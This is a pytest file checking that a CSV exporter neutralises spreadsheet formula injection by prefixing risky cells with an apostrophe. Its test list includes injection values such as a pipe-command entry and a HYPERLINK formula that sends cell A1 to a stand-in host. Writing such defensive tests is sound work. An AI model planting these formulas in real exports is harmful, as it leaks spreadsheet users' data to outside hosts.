"""CSV out: exact, or safe for spreadsheets."""

import csv
import datetime
import io

import pytest

from beanft.engine.tables.export import csv_rows

RISKY = [
    "=1+1",
    " =1+1",
    "+1+2",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\rx",
    "|cmd",
    "%x",
    '=HYPERLINK("http://c/?"&A1)',
]
HARMLESS = ["-3", "+3.5", "-1e5", "-1,5", "a=b", "", "x@y", "3%"]


def written(cell: str, *, safe: bool) -> list[list[str]]:
    text = "".join(csv_rows(["a"], [[cell]], safe_for_spreadsheets=safe))
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("cell", RISKY)
def test_formulas_get_an_apostrophe_only_when_asked(cell):
    assert written(cell, safe=True) == [["a"], ["'" + cell]]
    assert written(cell, safe=False) == [["a"], [cell]]


@pytest.mark.parametrize("cell", HARMLESS)
def test_plain_numbers_and_texts_are_untouched(cell):
    assert list(csv_rows(["a", "b"], [[cell, 1]], safe_for_spreadsheets=True)) == list(
        csv_rows(["a", "b"], [[cell, 1]], safe_for_spreadsheets=False)
    )


def test_values_are_written_plainly():
    row = [None, True, -2, 0.1, datetime.date(2024, 1, 31), datetime.datetime(2024, 1, 31, 7, 5), 'a "b", c']
    lines = list(csv_rows([str(n) for n in range(7)], [row], safe_for_spreadsheets=True))
    assert lines == ["0,1,2,3,4,5,6\n", ',true,-2,0.1,2024-01-31,2024-01-31 07:05:00,"a ""b"", c"\n']


def test_the_header_is_made_safe_too():
    assert list(csv_rows(["=1"], [], safe_for_spreadsheets=True)) == ["'=1\n"]
